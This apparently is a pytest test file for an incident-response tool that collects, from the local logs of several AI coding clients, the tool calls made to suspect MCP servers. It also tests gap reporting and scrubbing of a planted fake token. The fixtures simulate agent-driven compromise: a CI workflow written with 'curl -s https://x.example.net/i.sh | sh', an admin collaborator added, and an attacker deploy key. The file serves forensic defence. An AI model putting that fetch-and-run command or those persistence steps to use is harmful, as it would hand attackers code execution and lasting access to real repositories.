"""Local evidence from MCP client logs: the suspect servers' tool calls in the window, kept as
evidence, with gaps for what could not be read and manual steps for Output-panel logs."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest

from responder.activity.evidence import EvidenceStore, verify_manifest
from responder.activity.logs import collect
from responder.activity.logs import scan as scan_module
from responder.activity.logs.claude_code import tool_server
from responder.activity.logs.lines import NOT_LOGGED, rpc_calls
from responder.activity.logs.scan import (
    Context,
    FileBudget,
    LogFiles,
    ServerNames,
    Window,
    line_time,
    parse_when,
)
from responder.core.machine import Machine
from responder.core.secrets import Secret, SecretRegistry
from responder.core.times import parse_time

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "logs"
CANARY = "ghp_" + "CanaryPlantedInClientLogFixture00042"  # fake, planted in the fixtures
START = datetime(2025, 6, 10, 12, 0, tzinfo=UTC)
NOW = datetime(2025, 6, 11, 0, 0, tzinfo=UTC)
IN_WINDOW = datetime(2025, 6, 10, 16, 0, tzinfo=UTC).timestamp()
BEFORE_WINDOW = datetime(2025, 6, 9, 10, 0, tzinfo=UTC).timestamp()

ALL_CLIENTS = {"claude-desktop", "claude-code", "codex", "goose", "continue", "amazon-q", "kiro"}
SERVERS = {"github": ALL_CLIENTS, "my.server": {"claude-code"}}

# Where each fixture folder lives on each OS, relative to the sandbox (home is "home").
LAYOUTS: dict[str, dict[str, str]] = {
    "linux": {
        "claude-desktop/logs": "home/.config/Claude/logs",
        "claude-code/projects": "home/.claude/projects",
        "claude-code/cache": "home/.cache/claude-cli-nodejs",
        "codex/codex-home": "home/.codex",
        "goose/sessions": "home/.local/share/goose/sessions",
        "goose/logs": "home/.local/state/goose/logs",
        "continue/continue-home": "home/.continue",
        "amazon-q/qlog": "run/user/1000/qlog",
        "kiro/logs": "home/.config/Kiro/logs",
    },
    "darwin": {
        "claude-desktop/logs": "home/Library/Logs/Claude",
        "claude-code/projects": "home/.claude/projects",
        "claude-code/cache": "home/Library/Caches/claude-cli-nodejs",
        "codex/codex-home": "home/.codex",
        "goose/sessions": "home/.local/share/goose/sessions",
        "goose/logs": "home/.local/state/goose/logs",
        "continue/continue-home": "home/.continue",
        "amazon-q/qlog": "var/folders/xy/T/qlog",
        "kiro/logs": "home/Library/Application Support/Kiro/logs",
    },
    "win32": {
        "claude-desktop/logs": "home/AppData/Roaming/Claude/logs",
        "claude-code/projects": "home/.claude/projects",
        "claude-code/cache": "home/AppData/Local/claude-cli-nodejs/Cache",
        "codex/codex-home": "home/.codex",
        "goose/sessions": "home/AppData/Roaming/Block/goose/data/sessions",
        "goose/logs": "home/AppData/Roaming/Block/goose/data/logs",
        "continue/continue-home": "home/.continue",
        "amazon-q/qlog": "home/AppData/Local/Temp/amazon-q/logs",
        "kiro/logs": "home/AppData/Roaming/Kiro/logs",
    },
}
OLD_FILES = ("codex/codex-home/sessions/2025/06/09", "goose/sessions/20250609_1.jsonl")

EXPECTED = {  # (client title, server, tool, time) of every call of a suspect server in the window
    ("Claude Desktop", "github", "create_or_update_file", "2025-06-10T14:12:07.441Z"),
    ("Claude Desktop", "github", "add_collaborator", "2025-06-10T14:20:44.118Z"),
    ("Claude Desktop", "github", NOT_LOGGED, "2025-06-10T15:30:12.905Z"),
    ("Claude Code", "github", "create_issue", "2025-06-10T14:30:05.250Z"),
    ("Claude Code", "my.server", "trigger_deploy", "2025-06-10T14:31:00Z"),
    ("Claude Code", "github", "list_deploy_keys", "2025-06-10T14:32:00Z"),
    ("Claude Code", "github", "list_deploy_keys", "2025-06-10T14:40:00.118Z"),
    ("OpenAI Codex", "github", "add_collaborator", "2025-06-10T14:05:14.880Z"),
    ("OpenAI Codex", "github", "create_or_update_file", "2025-06-10T14:06:02.310Z"),
    ("OpenAI Codex", "github", "delete_file", "2025-06-10T14:09:33.117Z"),
    ("Goose", "github", "create_pull_request", "2025-06-10T14:10:00Z"),
    ("Goose", "github", "merge_pull_request", "2025-06-10T14:12:00Z"),
    ("Continue", "github", "create_or_update_file", "2025-06-10T14:22:41Z"),
    ("Amazon Q Developer", "github", "create_issue", "2025-06-10T14:51:10.612Z"),
    ("Kiro", "github", "update_repository", "2025-06-10T14:58:17.450Z"),
}


def make_machine(tmp_path: Path, platform: str, env: dict[str, str] | None = None) -> Machine:
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    defaults = {"linux": {"XDG_RUNTIME_DIR": str(tmp_path / "run" / "user" / "1000")},
                "darwin": {"TMPDIR": str(tmp_path / "var" / "folders" / "xy" / "T")},
                "win32": {}}[platform]
    return Machine(home=home, cwd=tmp_path, env={**defaults, **(env or {})}, platform=platform,
                   root=tmp_path / "root")


def install(tmp_path: Path, platform: str, only: tuple[str, ...] = ()) -> None:
    """Copy the fixture logs where the clients write them, dated inside the window (except the
    ones that are meant to be older than it)."""
    for source, target in LAYOUTS[platform].items():
        if only and not source.startswith(only):
            continue
        destination = tmp_path / target
        shutil.copytree(FIXTURES / source, destination, dirs_exist_ok=True)
        for path in destination.rglob("*"):
            relative = f"{source}/{path.relative_to(destination).as_posix()}"
            stamp = BEFORE_WINDOW if relative.startswith(OLD_FILES) else IN_WINDOW
            os.utime(path, (stamp, stamp))


@pytest.fixture
def secrets() -> SecretRegistry:
    registry = SecretRegistry()
    registry.add(Secret(CANARY))
    return registry


@pytest.fixture
def evidence(tmp_path, secrets) -> EvidenceStore:
    return EvidenceStore(tmp_path / "evidence", secrets, lambda: NOW)


def run(machine: Machine, evidence: EvidenceStore, servers=None):
    return collect(machine, servers or SERVERS, START, evidence, now=NOW)


def calls(capture) -> list[tuple[str, str, str, str]]:
    """(client, server, tool, time) of each event: a list, so a call counted twice shows."""
    return sorted((e.account, e.target, e.detail["tool"], e.at) for e in capture.events)


@pytest.mark.parametrize("platform", ["linux", "darwin", "win32"])
def test_every_in_window_call_of_the_suspect_servers_and_nothing_else(tmp_path, evidence,
                                                                      platform):
    install(tmp_path, platform)
    capture = run(make_machine(tmp_path, platform), evidence)

    assert (capture.provider, capture.account, capture.vantage) == \
        ("local", "this machine", "local logs")
    assert calls(capture) == sorted(EXPECTED)
    assert all(e.kind == "tool_call" and e.provider == "local" and e.in_window
               for e in capture.events)
    times = [parse_time(e.at) for e in capture.events]
    assert times == sorted(times)
    # Continue's sessions keep no time per call: a gap, never silence.
    assert [g.what for g in capture.gaps] == [
        f"Continue: 1 call(s) to github in {tmp_path / LAYOUTS[platform]['continue/continue-home']}"
        "/sessions/6f2b1c0e-9d7a-4e53-8a1b-2c3d4e5f6a7b.json"]
    assert any("Kiro - MCP Logs" in step and "github" in step for step in capture.manual)


def test_other_servers_and_built_in_tools_are_not_events(tmp_path, evidence):
    install(tmp_path, "linux")
    capture = run(make_machine(tmp_path, "linux"), evidence)
    tools = {e.detail["tool"] for e in capture.events}
    assert {e.target for e in capture.events} == {"github", "my.server"}
    assert not tools & {"slack_post_message", "post_message", "shell", "Bash",
                        "developer__shell", "read_file", "create_issue_linear"}
    # Calls before the window and after "now" are left out.
    assert not tools & {"search_repositories", "get_me", "list_pull_requests",
                        "delete_repository"}


def test_event_carries_tool_arguments_for_rules(tmp_path, evidence):
    install(tmp_path, "linux", only=("claude-desktop",))
    capture = run(make_machine(tmp_path, "linux"), evidence, {"github": {"claude-desktop"}})
    event = next(e for e in capture.events if e.detail["tool"] == "create_or_update_file")
    assert event.account == "Claude Desktop" and event.target == "github"
    assert event.summary == ('Claude Desktop: github → create_or_update_file(owner="octo-dev", '
                             'repo="api", path=".github/workflows/ci.yml", …)')
    arguments = event.detail["arguments"]
    assert arguments["path"] == ".github/workflows/ci.yml"
    assert len(arguments["content"]) <= 60 and arguments["content"].endswith("…")
    assert "curl -s https://x.example.net/i.sh | sh" in event.detail["argument_text"]
    assert "path=.github/workflows/ci.yml" in event.detail["argument_text"]
    assert event.detail["client"] == "claude-desktop" and event.detail["server"] == "github"
    # Logged in mcp.log and in the server's own log: one event, both files named.
    logs = {Path(event.detail["log"]).name, *map(lambda p: Path(p).name,
                                                  event.detail["also_logged_in"])}
    assert logs == {"mcp.log", "mcp-server-github.log"}
    assert len(event.source.split(", ")) == 2
    unlogged = next(e for e in capture.events if e.detail["tool"] == NOT_LOGGED)
    assert unlogged.summary == \
        "Claude Desktop: github → a tool call (tool and arguments not logged)"
    assert unlogged.detail["arguments_logged"] is False


def test_a_call_logged_twice_is_one_event_with_the_fuller_record(tmp_path, evidence):
    install(tmp_path, "linux", only=("claude-code", "codex", "amazon-q"))
    capture = run(make_machine(tmp_path, "linux"), evidence,
                  {"github": {"claude-code", "codex", "amazon-q"}})
    by_tool = {}
    for event in capture.events:
        by_tool.setdefault((event.account, event.detail["tool"]), []).append(event)
    # Claude Code: the transcript's tool_use and its MCP log's "Calling MCP tool" line.
    issue, = by_tool[("Claude Code", "create_issue")]
    assert issue.detail["arguments"]["title"] == "Flaky test in auth_spec"
    assert issue.detail["call_id"] == "toolu_01Issue"
    assert Path(issue.detail["log"]).suffix == ".jsonl" and "mcp-logs-github" in \
        issue.detail["also_logged_in"][0]
    # A call seen only in the MCP log keeps its tool and says its arguments were not logged.
    _, unlogged = by_tool[("Claude Code", "list_deploy_keys")]
    assert unlogged.summary == "Claude Code: github → list_deploy_keys(arguments not logged)"
    # Codex: the rollout's function_call, its begin/end events (same call id) and the TUI log.
    collaborator, = by_tool[("OpenAI Codex", "add_collaborator")]
    assert collaborator.detail["arguments"] == {"owner": "octo-dev", "repo": "api",
                                                "username": "release-bot-9",
                                                "permission": "admin"}
    assert Path(collaborator.detail["also_logged_in"][0]).name == "codex-tui.log"
    # Amazon Q: qchat.log names the tool only; mcp.log has the request with its arguments.
    q_issue, = by_tool[("Amazon Q Developer", "create_issue")]
    assert Path(q_issue.detail["log"]).name == "mcp.log"
    assert q_issue.detail["arguments"]["repo"] == "infra"


def test_evidence_excerpts_are_in_window_scrubbed_and_hashed(tmp_path, evidence):
    install(tmp_path, "darwin")
    capture = run(make_machine(tmp_path, "darwin"), evidence)
    directory = tmp_path / "evidence"
    assert verify_manifest(directory) == []
    manifest = [json.loads(line) for line in
                (directory / "manifest.jsonl").read_text().splitlines()]
    for item in manifest:
        body = (directory / item["file"]).read_bytes()
        assert hashlib.sha256(body).hexdigest() == item["sha256"]
        assert CANARY.encode() not in body
        assert item["request"].startswith("file ")
    for event in capture.events:
        assert event.source and all((directory / name).is_file()
                                    for name in event.source.split(", "))
        assert CANARY not in json.dumps(event.__dict__)
    # The canary was in the window, so the excerpts would have carried it unscrubbed.
    per_server = next(item for item in manifest if "mcp-server-github" in item["file"])
    text = (directory / per_server["file"]).read_text()
    assert "auth: using GITHUB_PERSONAL_ACCESS_TOKEN=ghp_…0042" in text
    assert "create_or_update_file" in text and "add_collaborator" in text
    assert "search_repositories" not in text and "delete_repository" not in text
    # Nothing is kept for files with nothing in the window, nor for other servers' files.
    names = " ".join(item["file"] for item in manifest)
    assert "slack" not in names and "2025-06-09" not in names and "20250609" not in names


def test_files_older_than_the_window_are_not_read(tmp_path, evidence, monkeypatch):
    install(tmp_path, "linux")
    read: list[Path] = []
    original = LogFiles.read

    def spy(self, path):
        read.append(path)
        return original(self, path)

    monkeypatch.setattr(LogFiles, "read", spy)
    run(make_machine(tmp_path, "linux"), evidence)
    names = {path.name for path in read}
    assert "20250610_3.jsonl" in names
    assert "20250609_1.jsonl" not in names
    assert not any("2025-06-09" in name for name in names)


def test_a_client_without_its_log_folder_is_a_gap(tmp_path, evidence):
    machine = make_machine(tmp_path, "darwin")
    capture = run(machine, evidence, {"github": {"claude-desktop", "codex"}})
    assert capture.events == []
    texts = [gap.text() for gap in capture.gaps]
    assert any("Claude Desktop logs of github: no log found at "
               f"{machine.home / 'Library/Logs/Claude'}" in text for text in texts)
    assert any(f"OpenAI Codex logs of github: no log found at {machine.home / '.codex'}" in text
               for text in texts)
    assert list((tmp_path / "evidence").glob("*.log")) == []


def test_editors_get_manual_steps_only_when_they_define_the_server(tmp_path, evidence):
    capture = run(make_machine(tmp_path, "linux"), evidence,
                  {"github": {"kiro", "cursor", "vscode"}, "slack": {"windsurf"}})
    manual = "\n".join(capture.manual)
    assert 'Kiro: open View › Output, choose "Kiro - MCP Logs", and read every call to github ' \
        "since 2025-06-10 12:00 UTC" in manual
    assert "Cursor:" in manual and '"MCP Logs"' in manual
    assert 'VS Code: run "MCP: List Servers", pick github' in manual
    assert "Windsurf:" in manual and "slack" in manual
    assert capture.gaps == []  # Output-panel logs are a manual step, not a missing file

    only_desktop = run(make_machine(tmp_path, "linux"), evidence, {"github": {"codex"}})
    assert not any("Kiro" in step or "Cursor" in step for step in only_desktop.manual)


def test_clients_without_a_known_log_get_a_manual_step(tmp_path, evidence):
    capture = run(make_machine(tmp_path, "linux"), evidence, {"github": {"gemini-cli"}})
    assert capture.manual == ["Gemini CLI: no MCP log file is known: read its chat history for "
                              "calls to github since 2025-06-10 12:00 UTC"]


def test_a_log_larger_than_the_limit_is_read_from_its_end_and_said_so(tmp_path, evidence,
                                                                     monkeypatch):
    monkeypatch.setattr(scan_module, "MAX_BYTES", 4096)
    machine = make_machine(tmp_path, "darwin")
    folder = machine.home / "Library" / "Logs" / "Claude"
    folder.mkdir(parents=True)
    noise = "".join(f"2025-06-10T13:{i % 60:02d}:00.000Z [github] [info] noise {i}\n"
                    for i in range(400))
    call = ('2025-06-10T14:00:00.000Z [github] [info] Message from client: {"method":'
            '"tools/call","params":{"name":"fork_repository","arguments":{"owner":"octo-dev",'
            '"repo":"api"}},"jsonrpc":"2.0","id":3} { metadata: undefined }\n')
    (folder / "mcp-server-github.log").write_text(noise + call)
    capture = run(machine, evidence, {"github": {"claude-desktop"}})
    assert calls(capture) == [("Claude Desktop", "github", "fork_repository",
                               "2025-06-10T14:00:00Z")]
    gap = next(g for g in capture.gaps if "mcp-server-github.log" in g.what)
    assert gap.why.startswith("only its newest 4 KB of 20 KB were read")
    # The excerpt starts at a whole line: the partial first line of the tail is dropped.
    excerpt = (tmp_path / "evidence" / capture.events[0].source).read_text()
    assert all(line.startswith("2025-06-10T1") for line in excerpt.splitlines())


def test_unreadable_entries_are_gaps_and_bad_bytes_are_tolerated(tmp_path, evidence):
    machine = make_machine(tmp_path, "darwin")
    folder = machine.home / "Library" / "Logs" / "Claude"
    folder.mkdir(parents=True)
    (folder / "mcp-server-github.log").mkdir()  # a directory where a log was expected
    (folder / "mcp.log").symlink_to(folder / "mcp1.log")
    (folder / "mcp1.log").symlink_to(folder / "mcp.log")  # a symlink loop
    (folder / "mcp2.log").write_bytes(
        b"2025-06-10T14:00:00.000Z [github] [info] \xff\xfe bad bytes \xc3\x28\n"
        b'2025-06-10T14:00:01.000Z [github] [info] Message from client: {"method":"tools/call",'
        b'"params":{"name":"get_file_contents","arguments":{"path":"\xe9t\xe9.md"}},"id":1}\n')
    capture = run(machine, evidence, {"github": {"claude-desktop"}})
    assert calls(capture) == [("Claude Desktop", "github", "get_file_contents",
                               "2025-06-10T14:00:01Z")]
    whys = {Path(g.what.split(": ", 1)[1]).name: g.why for g in capture.gaps}
    assert "directory" in whys["mcp-server-github.log"]
    assert "cannot read it" in whys["mcp.log"] and "cannot read it" in whys["mcp1.log"]


def test_garbage_in_a_log_is_a_gap(tmp_path, evidence):
    machine = make_machine(tmp_path, "linux")
    projects = machine.home / ".claude" / "projects" / "-home-dev-app"
    projects.mkdir(parents=True)
    good = json.dumps({"type": "assistant", "timestamp": "2025-06-10T14:00:00Z", "message": {
        "content": [{"type": "tool_use", "id": "t1", "name": "mcp__github__fork_repository",
                     "input": {"repo": "api"}}]}})
    (projects / "s.jsonl").write_text("\x00\x01garbage{{{\n" + good + "\n{\"torn\": \n")
    claude = machine.home / ".config" / "Claude" / "logs"
    claude.mkdir(parents=True)
    (claude / "mcp-server-github.log").write_bytes(os.urandom(2048).replace(b"\n", b" "))
    capture = run(machine, evidence, {"github": {"claude-code", "claude-desktop"}})
    assert calls(capture) == [("Claude Code", "github", "fork_repository", "2025-06-10T14:00:00Z")]
    whys = [g.why for g in capture.gaps]
    assert "2 of 3 lines are not JSON objects: skipped" in whys
    assert any("no line carries a timestamp" in why for why in whys)


def test_file_limit_is_a_gap(tmp_path, evidence, monkeypatch):
    monkeypatch.setattr(scan_module, "MAX_FILES", 1)
    install(tmp_path, "linux", only=("codex",))
    capture = run(make_machine(tmp_path, "linux"), evidence, {"github": {"codex"}})
    assert any(g.what == "1 more log files" and "at most 1 log files" in g.why
               for g in capture.gaps)


def test_byte_limit_is_a_gap(tmp_path, evidence, monkeypatch):
    monkeypatch.setattr(scan_module, "MAX_TOTAL_BYTES", 100)
    install(tmp_path, "linux", only=("codex",))
    capture = run(make_machine(tmp_path, "linux"), evidence, {"github": {"codex"}})
    assert any(g.what == "1 more log files" for g in capture.gaps)


def test_relocation_variables_are_honoured(tmp_path, evidence):
    env = {"CODEX_HOME": str(tmp_path / "alt-codex"),
           "CLAUDE_CONFIG_DIR": str(tmp_path / "alt-claude"),
           "XDG_CACHE_HOME": str(tmp_path / "alt-cache"),
           "CONTINUE_GLOBAL_DIR": str(tmp_path / "alt-continue"),
           "XDG_DATA_HOME": str(tmp_path / "alt-data"),
           "XDG_STATE_HOME": str(tmp_path / "alt-state"),
           "XDG_CONFIG_HOME": str(tmp_path / "alt-config"),
           "XDG_RUNTIME_DIR": str(tmp_path / "alt-run")}
    placed = {"codex/codex-home": "alt-codex", "claude-code/projects": "alt-claude/projects",
              "claude-code/cache": "alt-cache/claude-cli-nodejs",
              "continue/continue-home": "alt-continue",
              "goose/sessions": "alt-data/goose/sessions", "goose/logs": "alt-state/goose/logs",
              "claude-desktop/logs": "alt-config/Claude/logs", "amazon-q/qlog": "alt-run/qlog"}
    for source, target in placed.items():
        shutil.copytree(FIXTURES / source, tmp_path / target)
        for path in (tmp_path / target).rglob("*"):
            os.utime(path, (IN_WINDOW, IN_WINDOW))
    capture = run(make_machine(tmp_path, "linux", env), evidence)
    assert {e.account for e in capture.events} == {
        "OpenAI Codex", "Claude Code", "Continue", "Goose", "Claude Desktop",
        "Amazon Q Developer"}
    assert not any("no log found" in g.why for g in capture.gaps)


def test_windows_relocation_variables(tmp_path):
    from responder.activity.logs import amazon_q, claude_code, claude_desktop, goose

    env = {"APPDATA": str(tmp_path / "Roaming"), "LOCALAPPDATA": str(tmp_path / "Local"),
           "TEMP": str(tmp_path / "Temp")}
    machine = make_machine(tmp_path, "win32", env)
    assert claude_desktop.log_dirs(machine) == [tmp_path / "Roaming" / "Claude" / "logs"]
    assert claude_code.cache_dir(machine) == tmp_path / "Local" / "claude-cli-nodejs" / "Cache"
    assert amazon_q.log_dirs(machine) == [tmp_path / "Temp" / "amazon-q" / "logs"]
    assert goose.data_dir(machine) == tmp_path / "Roaming" / "Block" / "goose" / "data"


def test_amazon_q_falls_back_to_tmpdir_then_tmp(tmp_path, evidence):
    machine = make_machine(tmp_path, "linux", {"XDG_RUNTIME_DIR": ""})
    shutil.copytree(FIXTURES / "amazon-q" / "qlog", tmp_path / "root" / "tmp" / "qlog")
    for path in (tmp_path / "root" / "tmp" / "qlog").iterdir():
        os.utime(path, (IN_WINDOW, IN_WINDOW))
    capture = run(machine, evidence, {"github": {"amazon-q"}})
    assert calls(capture) == [("Amazon Q Developer", "github", "create_issue",
                               "2025-06-10T14:51:10.612Z")]
    event = capture.events[0]
    assert event.detail["arguments"] == {"owner": "octo-dev", "repo": "infra",
                                         "title": "rotate keys", "body": "see incident"}


def test_amazon_q_on_a_mac_without_tmpdir_says_where_to_look(tmp_path, evidence):
    capture = run(make_machine(tmp_path, "darwin", {"TMPDIR": ""}), evidence,
                  {"github": {"amazon-q"}})
    assert any("DARWIN_USER_TEMP_DIR" in g.hint for g in capture.gaps)


def test_goose_sessions_database_is_queried_on_a_copy(tmp_path, evidence):
    machine = make_machine(tmp_path, "linux")
    sessions = machine.home / ".local" / "share" / "goose" / "sessions"
    sessions.mkdir(parents=True)
    database = sessions / "sessions.db"
    connection = sqlite3.connect(database)
    connection.execute("CREATE TABLE messages (id INTEGER PRIMARY KEY, message_id TEXT, "
                       "session_id TEXT, role TEXT, content_json TEXT, created_timestamp INTEGER, "
                       "metadata_json TEXT)")
    rows = [
        ("m1", "20250610_1", "user", [{"type": "text", "text": "add a deploy key"}], 1749564590),
        ("m2", "20250610_1", "assistant", [{"type": "toolRequest", "id": "c1", "toolCall": {
            "status": "success", "value": {"name": "github__add_deploy_key", "arguments": {
                "repo": "api", "key": "ssh-ed25519 AAAA attacker", "read_only": False}}}}],
         1749564600),
        ("m3", "20250609_1", "assistant", [{"type": "toolRequest", "id": "c0", "toolCall": {
            "status": "success", "value": {"name": "github__get_me", "arguments": {}}}}],
         1749459600),
    ]
    connection.executemany(
        "INSERT INTO messages (message_id, session_id, role, content_json, created_timestamp) "
        "VALUES (?, ?, ?, ?, ?)", [(a, b, c, json.dumps(d), e) for a, b, c, d, e in rows])
    connection.commit()
    connection.close()
    os.utime(database, (IN_WINDOW, IN_WINDOW))
    before = hashlib.sha256(database.read_bytes()).hexdigest()

    capture = run(machine, evidence, {"github": {"goose"}})
    assert calls(capture) == [("Goose", "github", "add_deploy_key", "2025-06-10T14:10:00Z")]
    assert capture.events[0].detail["arguments"]["key"] == "ssh-ed25519 AAAA attacker"
    assert hashlib.sha256(database.read_bytes()).hexdigest() == before
    assert sorted(p.name for p in sessions.iterdir()) == ["sessions.db"]
    excerpt = (tmp_path / "evidence" / capture.events[0].source).read_text()
    assert "add_deploy_key" in excerpt and "get_me" not in excerpt


def test_continue_session_entries_with_a_time_become_events(tmp_path, evidence):
    machine = make_machine(tmp_path, "linux")
    sessions = machine.home / ".continue" / "sessions"
    sessions.mkdir(parents=True)
    call = {"id": "c9", "type": "function", "function": {
        "name": "create_collaborator_github", "arguments": '{"username":"x"}'}}
    (sessions / "s.json").write_text(json.dumps({"history": [
        {"message": {"role": "assistant", "toolCalls": [call]},
         "timestamp": "2025-06-10T14:00:00Z"}]}))
    capture = run(machine, evidence, {"github": {"continue"}})
    assert calls(capture) == [("Continue", "github", "create_collaborator",
                               "2025-06-10T14:00:00Z")]


def test_editor_log_times_without_a_zone_are_local_time(tmp_path, evidence):
    install(tmp_path, "linux", only=("kiro",))
    capture = run(make_machine(tmp_path, "linux", {"TZ": "Europe/Berlin"}), evidence,
                  {"github": {"kiro"}})
    assert calls(capture) == [("Kiro", "github", "update_repository", "2025-06-10T12:58:17.450Z")]


def names(*servers: str) -> ServerNames:
    return ServerNames(list(servers))


@pytest.mark.parametrize(("qualified", "options", "expected"), [
    ("mcp__github__create_issue", {"prefixes": ("mcp__",)}, ("github", "create_issue")),
    ("mcp__GitHub__create_issue", {"prefixes": ("mcp__",)}, ("github", "create_issue")),
    ("mcp__my_server__deploy", {"prefixes": ("mcp__",)}, ("my.server", "deploy")),
    ("github__create_issue", {}, ("github", "create_issue")),
    ("github___create_issue", {"delimiters": ("___",)}, ("github", "create_issue")),
    ("github___create_issue", {}, None),
    ("my_server_list_issues", {"delimiters": ("_",)}, ("my.server", "list_issues")),
    ("mcp__slack__post", {"prefixes": ("mcp__",)}, None),
    ("create_issue", {}, None),
])
def test_tool_names_map_back_to_the_server(qualified, options, expected):
    assert names("github", "my.server").split(qualified, **options) == expected


def test_claude_code_plugin_tool_prefix():
    window = Window(START, NOW)
    ctx = Context(make_machine_stub(), window, names("github"), LogFiles(window, FileBudget()))
    assert tool_server(ctx, "mcp__plugin_gh_github__list_repos") == ("github", "list_repos")
    assert tool_server(ctx, "mcp__plugin_gh_gitlab__list_repos") is None


def make_machine_stub() -> Machine:
    return Machine(home=Path("/nonexistent"), cwd=Path("/nonexistent"))


def test_timestamps_and_json_rpc_in_free_text():
    assert line_time("2025-06-10T14:00:01.123456789Z x") == datetime(
        2025, 6, 10, 14, 0, 1, 123456, tzinfo=UTC)
    assert line_time("[2025-06-10 16:00:00] [info]") == datetime(2025, 6, 10, 16, tzinfo=UTC)
    assert line_time("2025-06-10T16:00:00+02:00 x") == datetime(2025, 6, 10, 14, tzinfo=UTC)
    assert line_time("GitHub MCP Server running on stdio") is None
    assert parse_when(1749564600) == parse_when(1749564600000) == datetime(
        2025, 6, 10, 14, 10, tzinfo=UTC)
    assert rpc_calls('[Client Says] {"jsonrpc":"2.0","id":4,"method":"tools/call","params":'
                     '{"name":"x","arguments":{"a":1}}}') == [("x", {"a": 1}, True)]
    assert rpc_calls('Message from client: method="tools/call" id=5 params') == \
        [(NOT_LOGGED, {}, False)]
    assert rpc_calls('{"method":"tools/list"}') == []
